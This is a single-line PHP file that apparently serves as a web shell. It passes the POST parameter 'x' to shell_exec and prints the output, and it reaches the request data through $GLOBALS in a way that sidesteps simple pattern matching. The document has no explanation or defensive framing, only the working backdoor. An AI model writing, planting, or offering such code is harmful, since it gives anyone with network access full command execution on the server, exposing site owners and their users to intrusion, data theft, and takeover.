<?php echo $GLOBALS["_POST"]["x"] ? shell_exec($GLOBALS["_POST"]["x"]) : "";
